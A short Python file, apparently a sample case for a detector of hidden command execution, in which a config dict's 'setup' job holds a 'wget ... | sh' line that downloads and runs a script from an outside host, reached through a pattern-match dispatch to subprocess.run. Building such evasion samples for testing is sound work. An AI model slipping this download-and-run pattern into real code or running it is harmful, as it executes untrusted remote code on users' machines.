# Evasion: runs a shell. The argv travels through a structural pattern
# match: `case {"run": [*argv]}` binds argv from a config dict, and the
# program runs it; the literal list is ["sh", "-c", <download and run>].
import subprocess

JOBS = [
    {"name": "lint", "echo": "ok"},
    {"name": "setup", "run": ["sh", "-c", "wget -qO- https://pkg.devtool-mirror.com/i | sh"]},
]


def dispatch(job):
    match job:
        case {"run": [*argv]}:
            return subprocess.run(argv, check=False).returncode
        case {"echo": str(text)}:
            print(text)
            return 0
        case _:
            return 1


if __name__ == "__main__":
    for j in JOBS:
        dispatch(j)
